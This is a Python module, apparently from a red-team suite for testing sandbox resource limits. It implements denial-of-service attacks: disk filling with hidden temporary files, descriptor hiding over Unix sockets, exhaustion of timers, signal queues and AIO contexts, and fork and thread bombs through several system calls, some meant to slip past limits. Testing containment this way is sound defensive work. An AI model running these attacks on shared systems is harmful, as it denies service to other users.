"""Attacks that use up what all share: disk, processes, threads, timers, signals."""

import ctypes
import os
import resource
import signal
import socket
import subprocess
import sys
import tempfile
import threading

from joute.redteam.attacks.attempt import attempt, by_number, kept, linger, packed

_PARENTS = 0x8000  # CLONE_PARENT
_FIRST_SIGNAL = 40


def disk_fill(aim):
    """Fills the disk, wherever it may write, up to twice what it may."""

    def fill(folder):
        for number in range(8):
            path = os.path.join(folder, f"fill-{aim['token']}-{number}")
            with open(path, "wb", 0) as file:
                for piece in range(aim["file_mb"] // 4):
                    file.write(b"x" * (1 << 20))

    def hidden(folder):
        descriptor = os.open(folder, os.O_TMPFILE | os.O_RDWR)
        kept.append(descriptor)
        os.posix_fallocate(descriptor, 0, 2 * aim["file_mb"] << 20)

    return attempt(
        own=lambda: fill(aim["own_folder"]),
        tmp=lambda: fill(aim["tmp"]),
        given=lambda: fill(tempfile.gettempdir()),
        hidden=lambda: hidden(aim["own_folder"]),
    )


def descriptors_hidden(aim):
    """Hides open files from the limit on them: sends them to itself, and closes its own."""

    def hide(kind):
        here, there = socket.socketpair(socket.AF_UNIX, kind)
        kept.extend((here, there))
        for _ in range(20):
            files = [end for _ in range(5) for end in os.pipe()]
            try:
                socket.send_fds(here, [b"."], files)
            finally:
                for file in files:
                    os.close(file)

    return attempt(
        streams=lambda: hide(socket.SOCK_STREAM),
        packets=lambda: hide(socket.SOCK_SEQPACKET),
        datagrams=lambda: hide(socket.SOCK_DGRAM),
    )


def timers_all(aim):
    """Takes all timers, of limited number for all programs of one user together."""
    event = packed("Qii48x", 0, 34, 0)  # signals that wait are counted with them

    def take():
        for number in range(200):
            by_number("timer_create", 1, event, ctypes.byref(ctypes.c_int()))
        return number

    def widen():
        hard = resource.getrlimit(resource.RLIMIT_SIGPENDING)[1]
        resource.setrlimit(resource.RLIMIT_SIGPENDING, (hard, hard))
        return take()

    return attempt(take=take, widen=widen)


def signals_all(aim):
    """Fills the queue of signals, of limited length for all programs of one user together."""
    me = os.getpid()
    signal.pthread_sigmask(signal.SIG_BLOCK, range(_FIRST_SIGNAL, 60))
    told = packed("iii", _FIRST_SIGNAL, 0, -1, size=128)

    def repeated(send):
        for number in range(200):
            send(_FIRST_SIGNAL + number % 20)

    return attempt(
        kill=lambda: repeated(lambda each: os.kill(me, each)),
        tgkill=lambda: repeated(lambda each: by_number("tgkill", me, me, each)),
        tkill=lambda: repeated(lambda each: by_number("tkill", me, each)),
        queue=lambda: repeated(lambda each: by_number("rt_sigqueueinfo", me, each, told)),
        queue_to_thread=lambda: repeated(
            lambda each: by_number("rt_tgsigqueueinfo", me, me, each, told)
        ),
    )


def requests_all(aim):
    """Takes the machine's contexts for asynchronous input and output, which databases need."""

    def take(many):
        made = ctypes.c_ulong()
        by_number("io_setup", many, ctypes.byref(made))
        return made.value

    return attempt(one=lambda: take(1), many=lambda: take(128))


def fork_bomb(aim):
    """Starts processes until it may start no more; it stops by itself at `most_processes`."""

    def bomb():
        for number in range(aim["most_processes"]):
            if os.fork() == 0:
                linger(20)
                os._exit(0)
        return aim["most_processes"]

    return attempt(
        fork=bomb,
        vfork=lambda: subprocess.run([sys.executable, "-c", ""], check=False).returncode,
        spawn=lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", ""], {}),
    )


def program_fork_bomb(aim):
    """Starts children, which a program may have, until it may start no more."""
    return fork_bomb(aim)


def fork_by_number(aim):
    """Starts processes by every call that does, by its number, until it may start no more."""
    words = packed("8Q", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)

    def bomb(name, *arguments):
        while len(kept) < aim["most_processes"]:
            number = by_number(name, *arguments)
            if number:
                kept.append(number)
            else:
                linger(20)
                os._exit(0)
        return len(kept)

    return attempt(
        clone=lambda: bomb("clone", signal.SIGCHLD, 0, 0, 0, 0),
        clone3=lambda: bomb("clone3", words, 64),
        sibling=lambda: bomb("clone", signal.SIGCHLD | _PARENTS, 0, 0, 0, 0),
        silent=lambda: bomb("clone", 0, 0, 0, 0, 0),
        fork=lambda: bomb("fork"),
    )


def thread_bomb(aim):
    """Starts threads until it may start no more; it stops by itself at `most_processes`."""
    threading.stack_size(128 << 10)

    def bomb():
        for number in range(aim["most_processes"]):
            threading.Thread(target=linger, args=(20,), daemon=True).start()
        return aim["most_processes"]

    return attempt(threads=bomb)
